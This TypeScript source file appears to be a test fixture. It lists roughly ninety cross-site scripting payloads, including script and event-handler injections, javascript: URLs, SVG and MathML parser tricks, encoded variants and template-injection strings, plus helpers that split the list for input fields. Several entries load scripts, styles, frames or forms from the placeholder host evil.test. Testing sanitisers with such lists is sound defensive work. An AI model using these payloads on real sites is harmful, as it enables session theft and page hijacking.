/**
 * What people paste who want their words to run as a program: tags and handlers, broken and nested markup, addresses that
 * are scripts, styles, foreign namespaces, escapes, templates, ends of whatever text may stand in.
 */
export const hostileWords: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src="https://evil.test/x.js"></script>',
  '<script src=//evil.test/x.js>',
  '<script type="module">import("//evil.test/x.js")</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '</script><script>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src=x onerror=&#97;lert(1)>',
  '<img src=x onerror=alert`1`>',
  '<img src=x:x onerror=eval(atob("YWxlcnQoMSk="))>',
  '<img src="https://evil.test/pixel.png">',
  '<img srcset="https://evil.test/pixel.png 1x">',
  '<img src="javascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">press</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">press</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">press</a>',
  '<a href=" &#14; javascript:alert(1)">press</a>',
  '<a href="java\tscript:alert(1)">press</a>',
  '<a href="jav&#x0A;ascript:alert(1)">press</a>',
  '<a href="JaVaScRiPt:alert(1)">press</a>',
  '<a href="javascript&colon;alert(1)">press</a>',
  '<a href="data:text/html,<script>alert(1)</script>">press</a>',
  '<a href="vbscript:msgbox(1)">press</a>',
  '<a href="//evil.test" onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>press</a>',
  '[press](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.test/"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<link rel="prefetch" href="https://evil.test/x">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<div style="background:url(https://evil.test/x.png);position:fixed;inset:0;z-index:9999">',
  '<p style="width:expression(alert(1))">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<form action="https://evil.test/"><button>press</button></form>',
  '<button formaction="javascript:alert(1)">press</button>',
  '<x onclick=alert(1) id=root name=tetri-page>press',
  '<a id="tetri-page"></a><form name="body"><input name="firstChild"></form>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title></title><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '" onmouseover="alert(1)',
  '`-alert(1)-`',
  '"}};alert(1);//',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '{name, select, other {<img src=x onerror=alert(1)>}}',
  'javascript:alert(1)',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>',
  '\u2028alert(1)\u2029',
];

/** All of it in portions of at most so many characters, each closed by words that can be found again. */
export function portionsOf(lengthMax: number): { readonly text: string; readonly last: string }[] {
  const portions: string[][] = [[]];
  let length = 0;
  for (const word of hostileWords) {
    length += word.length + 1;
    if (length > lengthMax - 40) {
      portions.push([]);
      length = word.length + 1;
    }
    portions.at(-1)?.push(word);
  }
  return portions.map((words, index) => {
    const last = `the end of portion ${index + 1} of ${lengthMax}`;
    return { text: [...words, last].join('\n'), last };
  });
}

/** As many as fit into a field of one line. */
export const hostileNames = (lengthMax: number) =>
  hostileWords.filter((word) => word.length <= lengthMax && /^\S.*\S$/.test(word));
